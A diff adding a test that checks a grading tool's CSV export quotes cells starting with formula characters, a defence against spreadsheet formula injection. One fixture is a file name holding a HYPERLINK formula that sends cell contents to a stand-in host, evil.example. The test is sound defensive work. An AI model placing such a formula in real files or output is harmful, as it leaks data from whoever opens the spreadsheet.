@@ -286,3 +286,25 @@ def test_cli_grade_shows_hostile_names_and_messages_escaped_in_the_table_csv_and
     for row in [*rows, *plain["rows"]]:
         assert row["verdict"] == "runtime_error"
         assert "\\ud800 \\u2066isolated\\u2069 at import" in row["message"], row
+
+
+# A CSV cell an instructor's spreadsheet would run as a formula: the file's name, its message, its tampering.
+FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"grade").py'   # no slash: a real file name
+
+
+def test_no_csv_cell_is_a_formula_whoever_chose_its_text():
+    """OWASP's rule (judge.base.csvcells): a text cell beginning with = + - @ tab or CR is quoted; the judge's
+    own numbers stay numbers."""
+    rows = [Row(FORMULA_NAME, Verdict.WRONG_ANSWER, 1, 2, 3.0, first_failure="+t1", message="@SUM(A1:A9)",
+                tampering=("-2+3 said the child", "line 4: uses ctypes")),
+            Row("\tlead.py", Verdict.RUNTIME_ERROR, 0, 2, -1.5, message="\r=1+1")]
+    table = list(csv.DictReader(io.StringIO(BatchResult("p", "d", rows).csv_text())))
+    assert table[0]["file"] == "'" + FORMULA_NAME
+    assert (table[0]["first_failure"], table[0]["message"]) == ("'+t1", "'@SUM(A1:A9)")
+    assert table[0]["tampering"] == "'-2+3 said the child; line 4: uses ctypes"
+    assert (table[1]["file"], table[1]["message"]) == ("'\\tlead.py", "'\\r=1+1")
+    assert table[1]["time_ms"] == "-1.5" and table[0]["passed"] == "1"   # numbers, unquoted
+    for row in table:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for key, cell in row.items()
+                       if key != "time_ms")
+
